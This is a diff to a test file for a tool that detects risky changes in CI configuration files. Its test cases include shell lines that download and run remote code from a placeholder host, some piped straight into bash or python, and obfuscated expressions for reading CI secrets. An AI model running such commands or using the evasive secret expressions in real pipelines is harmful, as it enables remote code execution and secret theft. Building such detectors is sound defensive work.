@@ -87,6 +87,8 @@ test.each([
   "curl -O https://x.example/tool.deb",
   "echo aGk= | base64 -d | bash",
   "curl https://x.example/a |\n  python3 -",
+  "curl -s https://x.example/t > /tmp/x && bash /tmp/x",
+  "wget https://x.example/installer\nsh installer",
   "git clone https://x.example/a && make -C a",
   "pip install git+https://x.example/a",
   "docker run ghcr.io/x/y",
@@ -123,4 +125,35 @@ test("many secrets and releases end in time", () => {
   const started = performance.now();
   kindsIn(WORKFLOW, text, text.replace("on: push", "on: release"));
   expect(performance.now() - started).toBeLessThan(20_000);
+});
+
+test.each([
+  "secrets[format('{0}', 'A')]",
+  "SECRETS.A",
+  "secrets . A",
+  "fromJSON(toJSON(secrets)).A",
+  "secrets[matrix.a]",
+])("a secret by an expression: %s", (expression) => {
+  const step = "on: push\njobs:\n  a:\n    steps:\n      - run: npm test\n";
+  expect(kindsIn(WORKFLOW, step, `${step}        env:\n          A: \${{ ${expression} }}\n`)).toEqual(["secret 7"]);
+});
+
+test.each<[string, string, string, string]>([
+  [
+    "azure-pipelines.yml",
+    "steps:\n  - bash: npm test\n",
+    "  - task: Npm@1\n    inputs:\n      command: publish\n",
+    "release",
+  ],
+  [".circleci/config.yml", "jobs:\n  a:\n    steps:\n      - checkout\n", "      - docker/publish\n", "release"],
+  [
+    ".circleci/config.yml",
+    "jobs:\n  a:\n    steps:\n      - checkout\n",
+    "      - docker/push: { image: x }\n",
+    "release",
+  ],
+  [".gitlab-ci.yml", "a:\n  script: npm test\n", "pages:\n  script: npm run build\n", "release"],
+  [".tekton/a.yaml", "spec:\n  steps:\n    - image: a/b\n", "    - image: c/d\n", "reference"],
+])("%s: %s gains by %s: %s", (path, before, more, kind) => {
+  expect(kindsIn(path, before, before + more).map((each) => each.split(" ")[0])).toEqual([kind]);
 });
